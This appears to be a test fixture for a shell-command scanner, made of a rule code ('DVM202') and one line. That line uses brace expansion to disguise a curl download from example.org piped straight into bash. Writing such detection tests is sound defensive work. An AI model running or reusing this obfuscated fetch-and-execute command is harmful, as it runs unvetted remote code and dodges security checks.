# expect: DVM202
{curl,-s,https://example.org/i.sh} | bash
